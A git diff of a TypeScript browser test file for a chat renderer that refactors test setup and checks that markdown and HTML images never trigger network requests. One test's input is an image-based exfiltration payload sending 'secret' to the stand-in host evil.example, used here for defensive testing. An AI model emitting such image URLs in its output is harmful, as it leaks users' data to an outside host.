@@ -1,16 +1,11 @@
 import type { ChatEvent, ReasoningSegment, Segment } from '@millrace/core/fold/shapes'
-import { afterAll, beforeAll, expect, it } from 'vitest'
+import { expect, it } from 'vitest'
 import { describeInBrowser } from '../../../test/browser/chromium.ts'
-import { absence } from '../../../test/browser/open-browser.ts'
 import { eventOf } from './html.ts'
 import { status, text, thought, tool } from './segments.ts'
-import { NOON, openTheatre, type Performance, type Theatre } from './stage.ts'
+import { NOON, openStage, type Performance } from './stage.ts'
 
-let theatre: Theatre
-beforeAll(async () => {
-  if (absence === undefined) theatre = await openTheatre()
-})
-afterAll(() => theatre?.close())
+const played = openStage()
 
 const live = (...segments: readonly Segment[]): ChatEvent[] => [eventOf(segments, { state: 'live' })]
 
@@ -28,15 +23,6 @@ const triggers = ({ page }: Performance) =>
         `${node.querySelector('.mr-label')?.textContent} ${node.getAttribute('aria-expanded') === 'true' ? 'open' : 'closed'}`,
     ),
   )
-
-async function played(act: (performance: Performance) => Promise<void>): Promise<void> {
-  const performance = await theatre.open()
-  try {
-    await act(performance)
-  } finally {
-    await performance.page.close()
-  }
-}
 
 describeInBrowser('in a browser', () => {
   it('S0-114: a block closes 500 ms after its end', () =>
@@ -157,23 +143,14 @@ describeInBrowser('in a browser', () => {
       ])
     }))
 
-  it('asks nobody for a picture before it is wanted', () =>
+  it('asks nobody for a picture: it is a link', () =>
     played(async (performance) => {
       await performance.show([
         eventOf([text(1, '![x](https://evil.example/?q=secret) <img src="https://evil.example/2">')]),
       ])
       expect(performance.requests).toEqual([])
-      await performance.page.getByRole('button', { name: 'Show image' }).click()
-      await expect.poll(() => performance.requests).toEqual(['https://evil.example/?q=secret'])
-    }))
-
-  it('says one word per finished block, and none for what was there before', () =>
-    played(async (performance) => {
-      const said = performance.page.locator('[role=status]')
-      await performance.show(live(recent(5000), tool(2, 'Bash', { state: 'running' })))
-      await performance.show(live(recent(5000), tool(2, 'Bash')))
-      expect(await said.textContent()).toBe('Bash finished')
-      await performance.show(live(recent(5000), tool(2, 'Bash'), text(3, 'Do', 'live')))
-      expect(await said.textContent()).toBe('Bash finished')
+      const link = performance.page.getByRole('link', { name: 'x evil.example' })
+      expect(await link.getAttribute('href')).toBe('https://evil.example/?q=secret')
+      expect(performance.requests).toEqual([])
     }))
 })
